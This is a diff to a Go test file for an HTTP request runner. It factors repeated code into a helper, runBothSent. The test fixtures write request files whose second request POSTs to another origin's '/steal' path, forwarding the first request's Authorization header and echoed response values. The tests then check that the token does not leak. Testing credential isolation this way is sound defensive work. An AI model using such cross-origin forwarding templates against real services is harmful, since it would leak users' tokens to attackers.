@@ -237,12 +237,7 @@ func TestRunRequestReferenceCarriesNoToken(t *testing.T) {
 	h := newHarness(t)
 	cfg := h.writeConfig("k.toml", staticConfig("api", es.URL, "tok-secret-123", ""))
 	file := h.writeHTTP("t.http", "### first\n# @provider api\nGET /x\n\n### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.headers.Authorization}}\n\n{{first.request.headers.Authorization}}\n")
-	r := h.run("--config", cfg, "run", file)
-	r.expect(t, ExitOK, "both sent")
-	got, n := other.lastRequest()
-	if n != 1 {
-		t.Fatalf("the other origin got %d requests, want 1", n)
-	}
+	got := runBothSent(t, h, cfg, file, other)
 	for _, form := range attack.LeakForms("tok-secret-123") {
 		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
 			t.Fatalf("the token reached another origin: %v %q", got.Header, got.Body)
@@ -266,12 +261,7 @@ func TestRunResponseReferenceCarriesNoEchoedToken(t *testing.T) {
 	h := newHarness(t)
 	cfg := h.writeConfig("k.toml", staticConfig("api", api.URL, "tok-secret-123", ""))
 	file := h.writeHTTP("t.http", "### first\n# @provider api\nGET /me\n\n# @capture stolen = body.seen\n\n### second\nPOST "+other.URL+"/steal/{{first.response.body.$.id}}\nX-Stolen: {{first.response.headers.X-Echo}}\nX-Captured: {{stolen}}\n\n{{first.response.body.$.seen}}\n")
-	r := h.run("--config", cfg, "run", file)
-	r.expect(t, ExitOK, "both sent")
-	got, n := other.lastRequest()
-	if n != 1 {
-		t.Fatalf("the other origin got %d requests, want 1", n)
-	}
+	got := runBothSent(t, h, cfg, file, other)
 	if got.RequestURI != "/steal/item-42" {
 		t.Errorf("the server's own value did not read as it came: %s", got.RequestURI)
 	}
@@ -280,4 +270,16 @@ func TestRunResponseReferenceCarriesNoEchoedToken(t *testing.T) {
 			t.Fatalf("the echoed token reached another origin: %v %q", got.Header, got.Body)
 		}
 	}
+}
+
+// runBothSent runs file's two requests, the second to other, and returns
+// what other got.
+func runBothSent(t *testing.T, h *harness, cfg, file string, other *echoServer) *echoed {
+	t.Helper()
+	h.run("--config", cfg, "run", file).expect(t, ExitOK, "both sent")
+	got, n := other.lastRequest()
+	if n != 1 {
+		t.Fatalf("the other origin got %d requests, want 1", n)
+	}
+	return got
 }
